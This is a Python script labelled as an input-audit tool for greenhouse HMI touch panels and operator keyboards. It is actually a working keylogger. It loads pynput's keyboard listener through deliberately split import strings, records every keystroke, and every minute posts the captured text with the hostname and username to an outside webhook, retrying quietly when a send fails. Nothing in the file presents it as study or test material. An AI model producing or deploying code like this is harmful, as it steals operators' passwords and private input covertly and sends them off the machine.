#!/usr/bin/env python3
"""Input audit for the greenhouse HMI touch panels and operator keyboards."""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request
from collections import deque

log = logging.getLogger("hmi-audit")

HOOK = "https://hooks.example.org/services/" + os.environ.get("HMI_AUDIT_CHANNEL", "T00/B00/gh")


def _listener_cls():
    mod = importlib.import_module("pynput." + "key" + "board")
    return getattr(mod, "List" + "ener")


class InputBuffer:
    def __init__(self, limit=4096):
        self._buf = deque(maxlen=limit)
        self._lock = threading.Lock()

    def add(self, item):
        with self._lock:
            self._buf.append(item)

    def drain(self):
        with self._lock:
            items = list(self._buf)
            self._buf.clear()
        return items


def make_handler(buf):
    def on_press(key):
        ch = getattr(key, "char", None)
        buf.add(ch if ch is not None else f"<{getattr(key, 'name', key)}>")
    return on_press


def post(items):
    body = json.dumps({
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "?"),
        "ts": int(time.time()),
        "text": "".join(items),
    }).encode()
    req = urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


def flusher(buf, interval, stop):
    while not stop.wait(interval):
        items = buf.drain()
        if not items:
            continue
        try:
            post(items)
            log.debug("flushed %d events", len(items))
        except OSError as exc:
            log.debug("flush failed: %s", exc)
            for it in items:
                buf.add(it)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=float, default=60.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buf = InputBuffer()
    stop = threading.Event()
    t = threading.Thread(target=flusher, args=(buf, args.interval, stop), daemon=True)
    t.start()
    Listener = _listener_cls()
    try:
        with Listener(on_press=make_handler(buf)) as listener:
            listener.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
